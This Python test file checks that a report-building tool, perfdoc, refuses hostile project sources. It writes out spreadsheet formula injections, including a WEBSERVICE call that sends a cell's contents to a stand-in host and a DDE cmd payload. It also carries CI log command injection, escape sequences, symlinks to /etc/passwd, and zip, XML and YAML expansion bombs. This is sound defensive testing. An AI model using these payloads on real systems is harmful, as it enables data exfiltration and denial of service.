"""Hostile sources, as a pull request to a report repository could bring them.

Each case builds its fixture here (nothing big is committed) and asserts what the
CI of a report repository relies on: a diagnostic with its code and file, exit 1
or 2, bounded time and memory, nothing outside the project read or changed, and
build/ left as it was.
"""

from __future__ import annotations

import os
import re
import subprocess
import time
import zipfile
from pathlib import Path

import pytest
from conftest import ROOT, copy_project, digest_tree, run_perfdoc, tiny_png, use_layout
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from perfdoc.sources.layout import LAYOUT_DIR

SECONDS, MEGABYTES = 10, 500



@pytest.fixture()
def world(tmp_path):
    """A built sample project, and a sibling folder standing for the rest of the machine."""
    project = copy_project(ROOT, tmp_path / "project")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text("root:x:0:0:root:/root:/bin/bash\n", encoding="utf-8")
    (outside / "notes.md").write_text("---\nsection: overview\ntitle: 一、部门概况\n---\n机密内容\n",
                                      encoding="utf-8")
    (outside / "layout.toml").write_text((LAYOUT_DIR / "jiangsu-2020.toml")
                                         .read_text(encoding="utf-8"), encoding="utf-8")
    done = run_perfdoc("build", str(project))
    assert done.returncode == 0, done.stdout + done.stderr
    return project, outside


def assert_refused(done, project: Path, outside: Path, before: dict, code: str, path: str):
    out = done.stdout + done.stderr
    assert done.returncode in (1, 2), out
    assert re.search(rf"{re.escape(path)}\S*: error\[{code}\]", out), out
    assert "root:x:0:0" not in out and "机密内容" not in out
    assert done.seconds < SECONDS and done.peak_mb < MEGABYTES, (done.seconds, done.peak_mb)
    assert digest_tree(outside) == before["outside"]
    assert digest_tree(project / "build") == before["build"]


def snapshot(project: Path, outside: Path) -> dict:
    return {"outside": digest_tree(outside), "build": digest_tree(project / "build")}


# ---------------------------------------------------------------- what the finance office opens


def test_text_from_the_sources_never_becomes_a_formula(sample_copy, tmp_path):
    (sample_copy / "indicators" / "04-履职效益.csv").write_text(
        "一级指标,二级指标,分值,得分,说明\n"
        '履职效益,"=HYPERLINK(""http://example.invalid/"",""点此查看"")",4,4,'
        '"=WEBSERVICE(""http://example.invalid/?""&A2)"\n'
        ",公众满意度,4,4,\"=cmd|' /C calc'!A0\"\n", encoding="utf-8")
    done = run_perfdoc("build", str(sample_copy))
    assert done.returncode == 0, done.stdout + done.stderr
    with zipfile.ZipFile(sample_copy / "build" / "scores.xlsx") as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
        strings = re.findall(r"<si><t>(.*?)</t></si>", z.read("xl/sharedStrings.xml").decode())
    formulas = re.findall(r"<f>(.*?)</f>", sheet)
    # perfdoc's own: the two SUMs of 合计 and the grade; nothing from the CSV
    assert len(formulas) == 3 and all(f.startswith(("SUM(", "IF(")) for f in formulas)
    for text in ("=HYPERLINK(", "=WEBSERVICE(", "=cmd|"):  # string cells (t="s"), inert
        index = next(i for i, s in enumerate(strings) if s.startswith(text))
        assert re.search(rf'<c r="\w+" s="\d+" t="s"><v>{index}</v></c>', sheet)


def test_a_line_break_in_a_source_cannot_start_a_workflow_command(sample_copy):
    (sample_copy / "indicators" / "04-履职效益.csv").write_text(
        '一级指标,二级指标,分值,得分,"说明\n::error title=pwned::injected"\n'
        "履职效益,公众满意度,8,8,\n", encoding="utf-8")
    for fmt in ("text", "github"):
        done = run_perfdoc("check", str(sample_copy), "--format", fmt)
        assert done.returncode == 1
        lines = (done.stdout + done.stderr).splitlines()
        assert not any(line.startswith("::error title=pwned") for line in lines), lines
        assert any("PD304" in line for line in lines)


# ---------------------------------------------------------------- nothing outside is read


def test_a_csv_linked_to_a_file_outside_is_not_read(world):
    project, outside = world
    before = snapshot(project, outside)
    (project / "indicators" / "99-x.csv").symlink_to(outside / "secret.txt")
    for fmt in ("text", "github"):
        done = run_perfdoc("build", str(project), "--format", fmt)
        if fmt == "text":
            assert_refused(done, project, outside, before, "PD005", "indicators/99-x.csv")
        else:
            assert "root:x:0:0" not in done.stdout and "PD005" in done.stdout


def test_a_section_linked_to_a_file_outside_is_not_built(world):
    project, outside = world
    before = snapshot(project, outside)
    (project / "content" / "01-overview.md").unlink()
    (project / "content" / "01-overview.md").symlink_to(outside / "notes.md")
    done = run_perfdoc("build", str(project))
    assert_refused(done, project, outside, before, "PD005", "content/01-overview.md")


def test_content_as_a_link_to_a_folder_outside_is_not_read(world):
    project, outside = world
    os.rename(project / "content", outside / "content")
    (project / "content").symlink_to(outside / "content")
    before = snapshot(project, outside)
    done = run_perfdoc("check", str(project))
    assert_refused(done, project, outside, before, "PD005", "content/report.md")


def test_a_layout_outside_the_project_is_refused(world):
    project, outside = world
    before = snapshot(project, outside)
    facts = project / "content" / "report.md"
    facts.write_text(facts.read_text(encoding="utf-8").replace(
        "layout: jiangsu-2020", f"layout: {outside / 'layout.toml'}"), encoding="utf-8")
    done = run_perfdoc("build", str(project))
    assert_refused(done, project, outside, before, "PD003", "content/report.md")


@pytest.mark.parametrize("kind", ["fifo", "directory", "device"])
def test_a_source_that_is_not_a_regular_file(world, kind):
    project, outside = world
    before = snapshot(project, outside)
    path = project / "indicators" / "99-x.csv"
    if kind == "fifo":
        os.mkfifo(path)
    elif kind == "directory":
        path.mkdir()
    else:
        path.symlink_to("/dev/zero")  # leads out, and is endless
    done = run_perfdoc("build", str(project))
    assert_refused(done, project, outside, before, "PD005", "indicators/99-x.csv")


def test_a_source_too_big_to_be_real(world):
    project, outside = world
    before = snapshot(project, outside)
    with open(project / "indicators" / "99-x.csv", "wb") as fh:
        fh.truncate(200 * 1024 * 1024)  # sparse: 200 MB on paper, nothing on disk
    done = run_perfdoc("build", str(project))
    assert_refused(done, project, outside, before, "PD006", "indicators/99-x.csv")


def test_yaml_aliases_cannot_expand(world):
    project, outside = world
    before = snapshot(project, outside)
    lol = "\n".join(f"l{i}: &l{i} [" + ",".join([f"*l{i - 1}"] * 9) + "]" for i in range(1, 10))
    facts = project / "content" / "report.md"
    facts.write_text(facts.read_text(encoding="utf-8").replace(
        "staffing:", f"l0: &l0 \"lol\"\n{lol}\nstaffing:"), encoding="utf-8")
    done = run_perfdoc("build", str(project))
    assert_refused(done, project, outside, before, "PD202", "content/report.md")
    assert "别名" in done.stdout


def test_an_image_too_big_is_refused(world):
    project, outside = world
    before = snapshot(project, outside)
    with open(project / "content" / "big.png", "wb") as fh:
        fh.truncate(3 * 1024 * 1024 * 1024)
    overview = project / "content" / "01-overview.md"
    overview.write_text(overview.read_text(encoding="utf-8") + "\n![大图](big.png)\n",
                        encoding="utf-8")
    done = run_perfdoc("build", str(project))
    assert_refused(done, project, outside, before, "PD208", "content/01-overview.md")


# ---------------------------------------------------------------- writing


def test_outputs_are_all_or_nothing_on_a_full_disk(world):
    """A file-size limit stands for the full disk: the large outputs fail, the small one
    would fit, and still none of them replaces the last good set."""
    project, outside = world
    before = snapshot(project, outside)
    overview = project / "content" / "01-overview.md"
    overview.write_text(overview.read_text(encoding="utf-8") + "\n新增一段。\n", encoding="utf-8")
    sizes = sorted(p.stat().st_size for p in (project / "build").iterdir())
    limit = (sizes[0] + sizes[-1]) // 2
    done = subprocess.run(
        ["bash", "-c", f'ulimit -f {limit // 1024}; trap "" XFSZ; exec "$0" -m perfdoc build "$1"',
         os.sys.executable, str(project)], capture_output=True, text=True, timeout=60)
    assert done.returncode == 1, done.stdout + done.stderr
    assert "error[PD007]" in done.stdout
    assert digest_tree(project / "build") == before["build"]
    assert not [p for p in (project / "build").iterdir() if p.name.endswith(".tmp")]


def test_build_as_a_file_or_a_link_out(world):
    project, outside = world
    before = snapshot(project, outside)
    os.rename(project / "build", outside / "build")
    (project / "build").write_text("不是目录", encoding="utf-8")
    done = run_perfdoc("build", str(project))
    assert done.returncode == 1 and "build: error[PD007]" in done.stdout, done.stdout
    (project / "build").unlink()
    (project / "build").symlink_to(outside / "build")
    done = run_perfdoc("build", str(project))
    assert done.returncode == 1 and "build: error[PD007]" in done.stdout, done.stdout
    assert digest_tree(outside / "build") == before["build"]


def test_built_files_follow_the_umask(world):
    project, _ = world
    done = subprocess.run(["bash", "-c", 'umask 022; exec "$0" -m perfdoc build "$1"',
                           os.sys.executable, str(project)], capture_output=True, timeout=60)
    assert done.returncode == 0
    built = [p for p in (project / "build").rglob("*") if p.is_file()]
    assert len(built) == 7 and {oct(p.stat().st_mode & 0o777) for p in built} == {"0o644"}


def test_init_from_a_project_with_links_out_copies_nothing(world, tmp_path):
    project, outside = world
    before = snapshot(project, outside)
    (project / "content" / "leak.md").symlink_to(outside / "secret.txt")
    done = run_perfdoc("init", str(tmp_path / "2021"), "--from", str(project), "--year", "2021")
    assert done.returncode == 2 and "PD005" in done.stderr, done.stdout + done.stderr
    assert "root:x" not in done.stdout + done.stderr
    assert not (tmp_path / "2021").exists()
    assert digest_tree(outside) == before["outside"]


def test_init_force_does_not_write_through_a_link(world, tmp_path):
    project, outside = world
    before = snapshot(project, outside)
    target = tmp_path / "2021"
    (target / "content").mkdir(parents=True)
    (target / "content" / "01-overview.md").symlink_to(outside / "notes.md")
    done = run_perfdoc("init", str(target), "--from", str(project), "--year", "2021", "--force")
    assert done.returncode == 2, done.stdout + done.stderr
    assert digest_tree(outside) == before["outside"]
    assert not (target / "indicators").exists()


def test_import_force_into_a_linked_content_folder_touches_nothing_outside(world, tmp_path):
    project, outside = world
    target = tmp_path / "target"
    target.mkdir()
    (outside / "content").mkdir()
    (outside / "content" / "keep.md").write_text("外部文件\n", encoding="utf-8")
    (target / "content").symlink_to(outside / "content")
    before = digest_tree(outside)
    done = run_perfdoc("import", str(project / "build" / "form.docx"), "--into", str(target),
                       "--force")
    assert done.returncode == 2, done.stdout + done.stderr
    assert "PD605" in done.stderr
    assert digest_tree(outside) == before
    assert not (target / "indicators").exists()


def test_diff_over_a_revision_with_an_absolute_link(tmp_path):
    repo = copy_project(ROOT, tmp_path / "repo")
    (repo / "content" / "passwd.md").symlink_to("/etc/passwd")

    def git(*args):
        subprocess.run(["git", "-c", "user.name=t", "-c", "user.email=t@example.cn", *args],
                       cwd=repo, check=True, capture_output=True)
    git("init", "-q", "-b", "main")
    git("add", "-A")
    git("commit", "-qm", "link")
    done = run_perfdoc("diff", "HEAD", "-C", str(repo))
    assert done.returncode == 2, done.stdout + done.stderr
    assert "content/passwd.md" in done.stderr and "内部错误" not in done.stderr


# ---------------------------------------------------------------- templates


@pytest.mark.parametrize("snippet,code", [
    ("{{ 'a' * 10**9 }}", "PD505"),
    ("{{ [1] * 10**9 }}", "PD505"),
    ("{{ 9**(9**9) }}", "PD505"),
    ("{{ 'x' | center(10**9) }}", "PD505"),
    ("{{ 'x' | indent(10**9) }}", "PD505"),
    ("{{ '%*d' | format(10**9, 1) }}", "PD505"),
    ("{{ '%*d' % (10**9, 1) }}", "PD505"),
    ("{{ '{:>1000000000}'.format(1) }}", "PD505"),
    # a fill letter, a mapping key or a nested field hid the width from the old pattern
    ("{{ '{:a>1000000000}'.format(1) }}", "PD505"),
    ("{{ '%(x)1000000000s' % {'x': 1} }}", "PD505"),
    ("{{ '{:{w}}'.format(1, w=10**9) }}", "PD505"),
    ("{{ '{a:{w}}'.format_map({'a': 1, 'w': 10**9}) }}", "PD505"),
    ("{{ 'x'.ljust(10**9) }}", "PD505"),
    ("{{ groups | join('x' * 999999) }}", "PD505"),
    ("{{ income | money(10**9) }}", "PD505"),
    ("{{ lipsum(10**7) }}", "PD502"),
    ("{% for a in range(100000) %}{% for b in range(100000) %}{% endfor %}{% endfor %}", "PD502"),
    ("{% for a in ('x' * 99999) | list %}{% for b in ('x' * 99999) | list %}{% endfor %}"
     "{% endfor %}", "PD505"),
    ("{% macro f(n) %}{% if n %}{{ f(n - 1) }}{{ f(n - 1) }}{% endif %}{% endmacro %}{{ f(40) }}",
     "PD505"),
    ("{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}", "PD504"),
    ("{% for a in groups %}{{ 'x' * 999999 }}{% endfor %}", "PD505"),
])
def test_templates_are_bounded(world, snippet, code):
    project, outside = world
    before = snapshot(project, outside)
    path = project / "content" / "03-achievements.md"
    path.write_text(path.read_text(encoding="utf-8") + f"\n{snippet}\n", encoding="utf-8")
    done = run_perfdoc("build", str(project))
    assert_refused(done, project, outside, before, code, "content/03-achievements.md")
    assert "内部错误" not in done.stderr


def test_the_run_stops_at_its_time_limit(monkeypatch, capsys):
    """Whatever keeps a command busy (here: a loop that never ends) meets the guard."""
    from perfdoc import cli

    def forever(args):
        while True:
            pass
    monkeypatch.setitem(cli.COMMANDS, "check", forever)
    monkeypatch.setenv("PERFDOC_TIME_LIMIT", "1")
    started = time.monotonic()
    assert cli.main(["check", str(ROOT)]) == 1
    assert time.monotonic() - started < 5
    err = capsys.readouterr().err
    assert "error[PD008]" in err and "PERFDOC_TIME_LIMIT" in err


# ---------------------------------------------------------------- sizes


def test_a_csv_of_too_many_rows(world):
    project, outside = world
    before = snapshot(project, outside)
    rows = "".join(f",指标{i},0,0,\n" for i in range(1_000_000))  # 19 MB: under the size limit
    (project / "indicators" / "99-x.csv").write_text(
        "一级指标,二级指标,分值,得分,说明\n履职效益,首行,0,0,\n" + rows, encoding="utf-8")
    done = run_perfdoc("check", str(project))
    assert_refused(done, project, outside, before, "PD006", "indicators/99-x.csv")


def test_a_section_too_long(world):
    project, outside = world
    before = snapshot(project, outside)
    add_to_section(project, "很长的正文。" * 200_000)
    done = run_perfdoc("build", str(project))
    assert_refused(done, project, outside, before, "PD006", ACHIEVEMENTS)


ACHIEVEMENTS = "content/03-achievements.md"


def add_to_section(project: Path, text: str, up_to: int | None = None) -> None:
    """`text` after the body of content/03-achievements.md; with `up_to`, repeated
    until the file has nearly that many bytes."""
    path = project / ACHIEVEMENTS
    body = path.read_text(encoding="utf-8") + "\n"
    times = (up_to - len(body.encode())) // len(text.encode()) if up_to else 1
    path.write_text(body + text * times, encoding="utf-8")


def test_a_markdown_table_of_thousands_of_columns(world):
    project, outside = world
    before = snapshot(project, outside)
    cols = 3000
    table = ("| " + " | ".join(f"列{i}" for i in range(cols)) + " |\n|" + "---|" * cols + "\n"
             + ("| " + " | ".join("x" for _ in range(cols)) + " |\n") * 12)
    add_to_section(project, (table + "\n") * 4)
    done = run_perfdoc("build", str(project))
    # Stopped before markdown-it makes the table's cells: 3,000 x 13 would be 117,000 tokens
    # (it took 3.5 s and 240 MB to reach PD210 when they were all made first).
    assert_refused(done, project, outside, before, "PD211", ACHIEVEMENTS)


def test_a_table_wider_than_the_page(world):
    project, outside = world
    before = snapshot(project, outside)
    cols = 65
    add_to_section(project, "| " + " | ".join("列" * cols) + " |\n|" + "---|" * cols + "\n")
    done = run_perfdoc("build", str(project))
    assert_refused(done, project, outside, before, "PD210", ACHIEVEMENTS)


# Two megabytes of Markdown made 2-4 million tokens: up to 31 s and 3.7 GB before the
# element budget (the 60 s limit would have stopped the time, not the memory).
DENSE = {"one-letter lines": "甲\n", "list items": "- x\n", "emphasis": "*a* ",
         "links": "[a](b) ", "table rows": "| a | b |\n|---|---|\n" + "| c | d |\n" * 40 + "\n",
         "nested quotes": "> " * 19 + "x\n\n", "code spans": "`a` "}


@pytest.mark.parametrize("shape", DENSE)
def test_two_megabytes_of_dense_markdown(world, shape):
    project, outside = world
    before = snapshot(project, outside)
    add_to_section(project, DENSE[shape], up_to=1_990_000)
    done = run_perfdoc("build", str(project))
    assert_refused(done, project, outside, before, "PD211", ACHIEVEMENTS)


def test_many_projects_share_one_budget_of_markdown_elements(world):
    # Each body is within its own limit; together they are not.
    project, outside = world
    before = snapshot(project, outside)
    source = project / "projects" / "01-电子政务外网运维"
    for n in range(6):
        dense = f"简{n}\n" * 24_000  # 48,000 elements (words, line breaks), each body its own
        folder = project / "projects" / f"{n + 10}-项目{n}"
        folder.mkdir()
        (folder / "indicators.csv").write_bytes((source / "indicators.csv").read_bytes())
        text = (source / "project.md").read_text(encoding="utf-8")
        text = text.replace("name: 电子政务外网运维", f"name: 项目{n}")
        head, _, rest = text.partition("## 实际完成情况\n")
        (folder / "project.md").write_text(f"{head}## 实际完成情况\n\n{dense}\n{rest}",
                                           encoding="utf-8")
    done = run_perfdoc("build", str(project))
    assert_refused(done, project, outside, before, "PD211", "projects/1")
    assert "全部正文合计" in done.stdout + done.stderr


def test_an_image_of_too_many_pixels(world):
    project, outside = world
    before = snapshot(project, outside)
    png = bytearray(tiny_png())
    png[16:24] = (20000).to_bytes(4, "big") + (20000).to_bytes(4, "big")  # IHDR says so
    (project / "content" / "huge.png").write_bytes(bytes(png))
    overview = project / "content" / "01-overview.md"
    overview.write_text(overview.read_text(encoding="utf-8") + "\n![大图](huge.png)\n",
                        encoding="utf-8")
    done = run_perfdoc("build", str(project))
    assert_refused(done, project, outside, before, "PD208", "content/01-overview.md")
    assert "20000×20000" in done.stdout


# ---------------------------------------------------------------- perfdoc import


def docx_with(form: Path, dest: Path, replace: dict[str, bytes]) -> Path:
    """A copy of a built form with some zip entries replaced."""
    with zipfile.ZipFile(form) as src, zipfile.ZipFile(dest, "w", zipfile.ZIP_DEFLATED) as out:
        for info in src.infolist():
            out.writestr(info.filename, replace.get(info.filename, src.read(info.filename)))
    return dest


def import_refused(done, target: Path, code: str):
    out = done.stdout + done.stderr
    assert done.returncode in (1, 2), out
    assert re.search(rf"error\[{code}\]", out), out
    assert len([line for line in done.stderr.splitlines() if "error[" in line]) == 1
    assert done.seconds < SECONDS and done.peak_mb < MEGABYTES, (done.seconds, done.peak_mb)
    assert not target.exists() or not any(target.iterdir())
    outside = target.parent / "outside"  # the sibling folder of `world`, when there is one
    if outside.exists():
        assert sorted(p.name for p in outside.iterdir()) == ["layout.toml", "notes.md",
                                                             "secret.txt"]
        assert (outside / "secret.txt").read_text(encoding="utf-8").startswith("root:x:0:0")


@pytest.fixture()
def form(world) -> Path:
    return world[0] / "build" / "form.docx"


def body_xml(form: Path) -> str:
    with zipfile.ZipFile(form) as z:
        return z.read("word/document.xml").decode()


def test_import_refuses_a_zip_bomb(form, tmp_path):
    xml = body_xml(form)
    bomb = xml.replace("<w:body>", "<w:body>" + " " * (64 * 1024 * 1024), 1).encode()
    path = docx_with(form, tmp_path / "bomb.docx", {"word/document.xml": bomb})
    assert path.stat().st_size < 2 * 1024 * 1024
    done = run_perfdoc("import", str(path), "--into", str(tmp_path / "t"))
    import_refused(done, tmp_path / "t", "PD603")


def test_import_refuses_sizes_that_lie(form, tmp_path):
    """The central directory says 100 bytes; the entry inflates to 30 MB."""
    xml = body_xml(form)
    big = xml.replace("<w:body>", "<w:body>" + " " * (30 * 1024 * 1024), 1).encode()
    path = docx_with(form, tmp_path / "lie.docx", {"word/document.xml": big})
    data = bytearray(path.read_bytes())
    name = b"word/document.xml"
    central = data.rfind(b"PK\x01\x02", 0, data.rfind(name))  # its central directory entry
    data[central + 24:central + 28] = (100).to_bytes(4, "little")  # uncompressed size
    path.write_bytes(bytes(data))
    done = run_perfdoc("import", str(path), "--into", str(tmp_path / "t"))
    import_refused(done, tmp_path / "t", "PD60[13]")  # damaged or a bomb: refused either way


def test_import_refuses_entity_expansion(form, tmp_path):
    lol = ('<!DOCTYPE w:document [<!ENTITY a "aaaaaaaaaa">'
           + "".join(f'<!ENTITY {c} "{("&" + p + ";") * 10}">'
                     for p, c in zip("abcdefgh", "bcdefghi", strict=True)) + "]>")
    xml = body_xml(form)
    xml = xml.replace("<w:document", lol + "<w:document", 1).replace(
        "<w:body>", "<w:body><w:p><w:r><w:t>&i;</w:t></w:r></w:p>", 1)
    path = docx_with(form, tmp_path / "lol.docx", {"word/document.xml": xml.encode()})
    done = run_perfdoc("import", str(path), "--into", str(tmp_path / "t"))
    import_refused(done, tmp_path / "t", "PD603")


def test_import_refuses_a_table_of_200000_rows(form, tmp_path):
    xml = body_xml(form)
    rows = "<w:tr><w:tc><w:p/></w:tc></w:tr>" * 200_000
    xml = xml.replace("<w:body>", f"<w:body><w:tbl>{rows}</w:tbl><w:p/>", 1)
    path = docx_with(form, tmp_path / "rows.docx", {"word/document.xml": xml.encode()})
    done = run_perfdoc("import", str(path), "--into", str(tmp_path / "t"))
    import_refused(done, tmp_path / "t", "PD603")


def test_import_is_linear_in_the_rows(form, tmp_path):
    """15,000 indicator rows (under the cap) import in seconds: the body is rebuilt, not
    emptied child by child, and every pass over the rows is linear."""
    xml = body_xml(form)
    tables = [m.start() for m in re.finditer("<w:tbl>", xml)]
    second = xml[tables[1]:]
    rows = re.findall(r"<w:tr>.*?</w:tr>", second, flags=re.S)
    plain = rows[-2]  # the last data row: no merge
    many = "".join(plain.replace("公众满意度", f"满意度{i}") for i in range(15_000))  # 15,000 rows
    xml = xml.replace(plain, many, 1)
    path = docx_with(form, tmp_path / "many.docx", {"word/document.xml": xml.encode()})
    done = run_perfdoc("import", str(path), "--into", str(tmp_path / "t"), timeout=60)
    # written, then checked: 15,000 rows of 8 points break the sum, so exit 1 (as check)
    assert done.returncode == 1 and "发现 1 个错误" in done.stdout, done.stdout[-2000:]
    assert done.seconds < SECONDS and done.peak_mb < MEGABYTES, (done.seconds, done.peak_mb)
    written = sorted((tmp_path / "t" / "indicators").glob("*.csv"))
    # 履职效益 written in each of the 15,000 rows is one group: one CSV, not 15,000 files
    assert [p.name for p in written] == ["01-部门决策.csv", "02-部门管理.csv", "03-部门履职.csv",
                                         "04-履职效益.csv"]
    assert len(written[-1].read_text(encoding="utf-8").splitlines()) - 1 == 15_000


@pytest.mark.parametrize("special", ["/dev/zero", "/dev/urandom", "fifo", "directory"])
def test_import_refuses_what_is_not_a_file(tmp_path, special):
    path = special
    if special == "fifo":
        path = tmp_path / "pipe.docx"
        os.mkfifo(path)
    elif special == "directory":
        path = tmp_path / "folder.docx"
        path.mkdir()
    done = run_perfdoc("import", str(path), "--into", str(tmp_path / "t"))
    import_refused(done, tmp_path / "t", "PD601")


def test_import_into_a_file(form, tmp_path):
    (tmp_path / "afile").write_text("x", encoding="utf-8")
    done = run_perfdoc("import", str(form), "--into", str(tmp_path / "afile"))
    assert done.returncode == 2 and "内部错误" not in done.stderr, done.stderr
    assert (tmp_path / "afile").read_text(encoding="utf-8") == "x"


def test_a_killed_import_leaves_no_temporary_folder(form, tmp_path):
    """pandoc stands in as a program that never answers; SIGTERM while it waits."""
    slow = tmp_path / "slow-pandoc"
    slow.write_text("#!/bin/sh\nsleep 60\n", encoding="utf-8")
    slow.chmod(0o755)
    tmp = tmp_path / "tmp"
    tmp.mkdir()
    env = {**os.environ, "PERFDOC_PANDOC": str(slow), "TMPDIR": str(tmp)}
    proc = subprocess.Popen([os.sys.executable, "-m", "perfdoc", "import", str(form),
                             "--into", str(tmp_path / "t")], env=env,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    deadline = time.monotonic() + 20
    while not any(tmp.iterdir()):  # the import's own folder appears
        assert time.monotonic() < deadline and proc.poll() is None
        time.sleep(0.05)
    proc.terminate()
    proc.wait(timeout=20)
    assert list(tmp.iterdir()) == []
    assert not (tmp_path / "t").exists() or not any((tmp_path / "t").iterdir())


def test_import_keeps_footnotes_in_their_section(tmp_path):
    import pypandoc

    from perfdoc.review import importer

    md = tmp_path / "a.md"
    md.write_text("正文有注释[^1]。\n\n第二段。\n\n[^1]: 脚注内容。\n", encoding="utf-8")
    subprocess.run([pypandoc.get_pandoc_path(), str(md), "-o", str(tmp_path / "a.docx")],
                   check=True)
    text = importer._tidy(importer._pandoc(pypandoc.get_pandoc_path(), tmp_path / "a.docx"))
    assert text == "正文有注释（注：脚注内容。）。\n\n第二段。"


def test_diff_outside_a_repository_says_so(sample_copy):
    done = run_perfdoc("diff", "-C", str(sample_copy))
    assert done.returncode == 2 and "不在 git 仓库中" in done.stderr, done.stderr


@pytest.mark.parametrize("depth,part", [(40, "word/document.xml"), (5000, "word/document.xml"),
                                        (40, "word/footnotes.xml")])
def test_import_refuses_deeply_nested_content(form, tmp_path, depth, part):
    nest = "<w:tbl><w:tr><w:tc>" * depth + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * depth
    if part == "word/document.xml":
        xml = body_xml(form).replace("<w:body>", f"<w:body>{nest}<w:p/>", 1)
    else:
        xml = ('<w:footnotes xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/'
               f'main"><w:footnote w:id="1">{nest}</w:footnote></w:footnotes>')
    path = docx_with(form, tmp_path / "nested.docx", {part: xml.encode()})
    if part not in zipfile.ZipFile(path).namelist():
        with zipfile.ZipFile(path, "a") as z:
            z.writestr(part, xml)
    done = run_perfdoc("import", str(path), "--into", str(tmp_path / "t"))
    import_refused(done, tmp_path / "t", "PD603")


def test_a_year_of_thousands_of_digits(world):
    project, outside = world
    before = snapshot(project, outside)
    facts = project / "content" / "report.md"
    facts.write_text(facts.read_text(encoding="utf-8").replace(
        "year: 2020 ", "year: 0x" + "f" * 5000 + " "), encoding="utf-8")
    done = run_perfdoc("build", str(project))
    assert_refused(done, project, outside, before, "PD102", "content/report.md")


# ---------------------------------------------------------------- round two: layouts, logs


def test_a_grade_name_cannot_become_a_formula(world):
    project, outside = world
    before = snapshot(project, outside)
    layout = (LAYOUT_DIR / "jiangsu-2020.toml").read_text(encoding="utf-8")
    hostile = '良"&WEBSERVICE("http://example.invalid/?"&A2)&"'
    use_layout(project, layout.replace('name = "良"', "name = '" + hostile + "'"))
    done = run_perfdoc("build", str(project))
    assert_refused(done, project, outside, before, "PD003", "content/report.md")
    assert "scoring.grades[2].name" in done.stdout


def test_grade_formulas_quote_their_names():
    """Names are validated when read; the formula still quotes them as literals."""
    import dataclasses

    from perfdoc.sheets.xlsx import grade_formula
    from perfdoc.sources.layout import Grade, load_layout

    layout = load_layout("jiangsu-2020")
    odd = dataclasses.replace(layout, grades=(Grade('A"&B', layout.grades[0].min),
                                              Grade("C", layout.grades[-1].min)))
    assert grade_formula(odd, "E9").text == 'IF(E9>=90,"A""&B","C")'


def lines_of(done) -> list[str]:
    return (done.stdout + done.stderr).split("\n")


def assert_clean_log(done) -> None:
    for line in lines_of(done):
        assert not line.lstrip().startswith("::"), line
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f]", line), repr(line)


def test_a_folder_name_cannot_start_a_workflow_command(sample_copy):
    projects = sorted((sample_copy / "projects").iterdir())
    projects[0].rename(projects[0].parent / "01-x\n::error title=pwned::owned\x1b[2J")
    done = run_perfdoc("build", str(sample_copy))
    assert done.returncode == 0, done.stdout + done.stderr
    assert_clean_log(done)
    assert "01-x\\x0a::error" in done.stdout  # one line, its break shown escaped


def test_fix_prints_no_raw_escape_sequences_or_file_names(sample_copy):
    (sample_copy / "content" / "01-overview.md").write_bytes(
        (sample_copy / "content" / "01-overview.md").read_bytes()
        + "\n中文,逗号\x1b]0;owned\x07\x1b[2J\n::error::x\n".encode())
    bad = sample_copy / "content" / "06-x\n::error title=t::y.md"
    bad.write_text("---\nsection: overview\ntitle: 一、部门概况\n---\n中文,逗号\n", encoding="utf-8")
    for args in (("fix", "--diff"), ("fix", "--check")):
        done = run_perfdoc(*args, str(sample_copy))
        assert done.returncode in (0, 1), done.stdout + done.stderr
        assert_clean_log(done)
        assert "\x1b" not in done.stdout + done.stderr


def test_findings_of_one_kind_are_capped_per_file(world):
    """A body of 20,000 findings prints 100 of them and one line for the rest."""
    from perfdoc.diagnostics import MAX_PER_FILE

    project, outside = world
    before = snapshot(project, outside)
    add_to_section(project, "\n\n".join(f"第{n}项,已完成" for n in range(20_000)))
    done = run_perfdoc("check", str(project))
    assert done.returncode in (0, 1), done.stderr
    lines = [line for line in done.stdout.splitlines() if "PD412" in line]
    assert len(lines) == MAX_PER_FILE + 1
    assert f"还有 {20_000 - MAX_PER_FILE} 处同类问题（PD412）未逐一列出" in lines[-1]
    assert done.seconds < SECONDS and done.peak_mb < MEGABYTES
    assert digest_tree(project / "build") == before["build"]


def test_a_limit_on_project_folders(world):
    project, outside = world
    before = snapshot(project, outside)
    template = sorted((project / "projects").iterdir())[0]
    for n in range(501):
        (project / "projects" / f"{n:04d}-x").mkdir()
    done = run_perfdoc("build", str(project))
    assert_refused(done, project, outside, before, "PD006", "projects")
    assert "504 个项目，超过上限 500" in done.stdout  # the sample's three and 501
    assert template.exists()


def test_a_very_long_project_name_builds(sample_copy):
    """python-docx refuses a document title over 255 characters: it once exited 3."""
    md = sorted((sample_copy / "projects").iterdir())[0] / "project.md"
    text = md.read_text(encoding="utf-8")
    name = next(line for line in text.splitlines() if line.startswith("name:"))
    md.write_text(text.replace(name, "name: " + "很长的项目名称" * 40), encoding="utf-8")
    done = run_perfdoc("build", str(sample_copy))
    assert done.returncode == 0, done.stdout + done.stderr
    assert_clean_log(done)


def lying_docx(form: Path, dest: Path, zeros: int) -> Path:
    """A .docx whose word/document.xml is a deflate stream of the real XML followed by
    `zeros` bytes of zeros, while its headers declare the real XML's size and CRC."""
    import struct
    import zlib

    with zipfile.ZipFile(form) as z:
        entries = [(i.filename, z.read(i.filename)) for i in z.infolist()]
    local, central = b"", b""
    for name, data in entries:
        packer = zlib.compressobj(6, zlib.DEFLATED, -15)
        stream = packer.compress(data)
        if name == "word/document.xml":
            block = b"\0" * (1 << 20)
            stream += b"".join(packer.compress(block) for _ in range(zeros >> 20))
        stream += packer.flush()
        crc, raw = zlib.crc32(data), name.encode()
        header = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(stream),
                             len(data), len(raw), 0)
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc,
                               len(stream), len(data), len(raw), 0, 0, 0, 0, 0,
                               len(local)) + raw
        local += header + raw + stream
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central),
                      len(local), 0)
    dest.write_bytes(local + central + end)
    return dest


